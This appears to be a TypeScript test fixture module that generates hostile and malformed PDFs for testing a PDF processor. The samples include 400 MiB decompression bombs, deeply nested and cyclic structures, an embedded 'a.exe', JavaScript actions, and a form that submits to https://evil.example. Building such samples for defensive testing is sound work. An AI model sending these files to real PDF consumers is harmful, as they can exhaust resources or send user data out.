import { constants, deflateSync } from "node:zlib";
import { PDF } from "@libpdf/core";
import { onePagePdf, streamOf, writtenPdf } from "#tests/support/written-pdf.ts";

const hello = "BT /F1 18 Tf 40 100 Td (Hello) Tj ET";
const box = "/MediaBox[0 0 300 200]";

/** A stream that unpacks to `times` 4 MiB of one letter, put together from packed pieces. */
function packed(times: number, letters: string): string {
  const piece = deflateSync(Buffer.alloc(4 * 1024 * 1024, letters), { finishFlush: constants.Z_FULL_FLUSH });
  const body = piece.subarray(2);
  return Buffer.concat([piece.subarray(0, 2), ...Array<Buffer>(times).fill(body)]).toString("latin1");
}

const pageBeside = (page: string, others: readonly string[]): Uint8Array =>
  writtenPdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", page, ...others]);

/** Its page lies in an object stream that unpacks to 400 MiB. */
function objectStreamBomb(): Uint8Array {
  const stream = streamOf(packed(100, " "), "/Type/ObjStm/N 1/First 4/Filter/FlateDecode");
  const head = `%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n`;
  const third = `3 0 obj\n${stream}\nendobj\n`;
  const row = (kind: number, place: number, more: number) =>
    [
      kind.toString(16).padStart(2, "0"),
      place.toString(16).padStart(8, "0"),
      more.toString(16).padStart(4, "0"),
    ].join("");
  const at = head.length + third.length;
  const rows = [row(0, 0, 65535), row(1, 9, 0), row(2, 3, 0), row(1, head.length, 0), row(1, at, 0)].join("");
  const entries = "/Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Filter/ASCIIHexDecode";
  const table = `4 0 obj\n${streamOf(`${rows}>`, entries)}\nendobj\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.from(head + third + table, "latin1");
}

async function ofPages(pages: number): Promise<Uint8Array> {
  const pdf = PDF.create();
  for (let at = 0; at < pages; at += 1) pdf.addPage({ width: 300, height: 200 });
  return pdf.save();
}

async function locked(protection: { userPassword?: string; ownerPassword: string }): Promise<Uint8Array> {
  const pdf = PDF.create();
  pdf.addPage({ width: 300, height: 200 }).drawText("Hello", { x: 40, y: 100 });
  pdf.setProtection(protection);
  return pdf.save();
}

/** Documents that do harm, made here because they are large or are told in a line. */
export const made: Readonly<Record<string, () => Uint8Array | Promise<Uint8Array>>> = {
  "encrypted with AES-256": () => locked({ userPassword: "secret", ownerPassword: "owner" }),
  "encrypted with AES-256 for its owner alone": () => locked({ ownerPassword: "owner" }),
  "500 pages": () => ofPages(500),
  "501 pages": () => ofPages(501),
  "object stream of 400 MiB": objectStreamBomb,
  "content of 400 MiB": () =>
    pageBeside(`<</Type/Page/Parent 2 0 R${box}/Contents 4 0 R>>`, [
      streamOf(packed(100, " "), "/Filter/FlateDecode"),
    ]),
  "text of 32 MiB": () =>
    pageBeside(
      `<</Type/Page/Parent 2 0 R${box}/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>`,
      [
        streamOf(
          deflateSync(Buffer.alloc(32 * 1024 * 1024, "BT /F1 9 Tf (Hello) Tj ET\n")).toString("latin1"),
          "/Filter/FlateDecode",
        ),
      ],
    ),
  "dictionaries nested 50,000 deep": () =>
    onePagePdf(`${box}/X ${"<</X".repeat(50_000)} 1 ${">>".repeat(50_000)}`, hello),
  "content nested 100,000 deep": () => onePagePdf(box, `${"[".repeat(100_000)} TJ ${hello}`),
  "kids that are their own parents": () =>
    writtenPdf([
      "<</Type/Catalog/Pages 2 0 R>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      "<</Type/Pages/Kids[2 0 R 3 0 R]/Parent 3 0 R/Count 2>>",
    ]),
  "a page tree 300 deep": () =>
    writtenPdf([
      "<</Type/Catalog/Pages 2 0 R>>",
      ...Array.from({ length: 300 }, (_, at) => `<</Type/Pages/Kids[${at + 3} 0 R]/Count 1>>`),
      `<</Type/Page${box}>>`,
    ]),
  "a page that is its own parent": () => pageBeside("<</Type/Page/Parent 3 0 R>>", []),
  "pages without the name of their type": () => pageBeside(`<</Parent 2 0 R${box}>>`, []),
  "no pages": () => writtenPdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"]),
  "a box of no numbers": () => onePagePdf("/MediaBox[0 0 NaN (x)]", hello),
  "a box of no size": () => onePagePdf("/MediaBox[0 0 0 0]", hello),
  "a box the wrong way round": () => onePagePdf("/MediaBox[300 200 0 0]", hello),
  "a box of a thousand million points": () => onePagePdf("/MediaBox[0 0 1000000000 1000000000]", hello),
  "a unit of a thousand million points": () => onePagePdf(`${box}/UserUnit 1000000000`, hello),
  "a CropBox beside the page": () => onePagePdf(`${box}/CropBox[900 900 1000 1000]`, hello),
  "a turn of 45 degrees": () => onePagePdf(`${box}/Rotate 45`, hello),
  "fonts that are missing": () => onePagePdf(box, hello.replace("F1", "F9")),
  "a font that is its own descendant": () =>
    pageBeside(`<</Type/Page/Parent 2 0 R${box}/Contents 5 0 R/Resources<</Font<</F1 4 0 R>>>>>>`, [
      "<</Type/Font/Subtype/Type0/BaseFont/X/DescendantFonts[4 0 R]/Encoding/Identity-H>>",
      streamOf(hello),
    ]),
  "a file attached to it": () =>
    writtenPdf([
      "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      `<</Type/Page/Parent 2 0 R${box}>>`,
      "<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 5 0 R>>>>",
      streamOf("MZ", "/Type/EmbeddedFile"),
    ]),
  "a file behind a note": () =>
    writtenPdf([
      "<</Type/Catalog/Pages 2 0 R>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      `<</Type/Page/Parent 2 0 R${box}/Annots[4 0 R]>>`,
      "<</Type/Annot/Subtype/FileAttachment/Rect[10 10 30 30]/FS<</F(a.exe)>>>>",
    ]),
  "an empty list of files": () =>
    writtenPdf([
      "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[]>>>>>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      `<</Type/Page/Parent 2 0 R${box}>>`,
    ]),
  "media that plays": () =>
    writtenPdf([
      "<</Type/Catalog/Pages 2 0 R>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      `<</Type/Page/Parent 2 0 R${box}/Annots[4 0 R]>>`,
      "<</Type/Annot/Subtype/RichMedia/Rect[10 10 90 90]/RichMediaContent<<>>>>",
    ]),
  "a form that sends itself": () =>
    writtenPdf([
      "<</Type/Catalog/Pages 2 0 R>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      `<</Type/Page/Parent 2 0 R${box}/Annots[4 0 R]>>`,
      "<</Type/Annot/Subtype/Link/Rect[10 50 90 70]/A<</S/SubmitForm/F(https://evil.example)>>>>",
    ]),
  "scripts everywhere": () =>
    writtenPdf([
      "<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a) 5 0 R]>>>>/AA<</WC 5 0 R>>/AcroForm<</Fields[4 0 R]/CO[4 0 R]>>>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      `<</Type/Page/Parent 2 0 R${box}/Annots[4 0 R 6 0 R]/AA<</O 5 0 R>>>>`,
      "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[10 10 90 30]/AA<</K 5 0 R>>/A 5 0 R/AP<</N 7 0 R>>>>",
      "<</S/JavaScript/JS(app.alert\\(1\\))>>",
      "<</Type/Annot/Subtype/Link/Rect[10 50 90 70]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>",
      streamOf("0 0 80 20 re f", "/Type/XObject/Subtype/Form/BBox[0 0 80 20]/AA<</K 5 0 R>>"),
    ]),
  "a signature": () =>
    writtenPdf([
      "<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[4 0 R]>>>>",
      "<</Type/Pages/Kids[3 0 R]/Count 1>>",
      `<</Type/Page/Parent 2 0 R${box}/Annots[4 0 R]>>`,
      "<</Type/Annot/Subtype/Widget/FT/Sig/T(s)/Rect[0 0 0 0]/V<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>>>>>",
    ]),
};
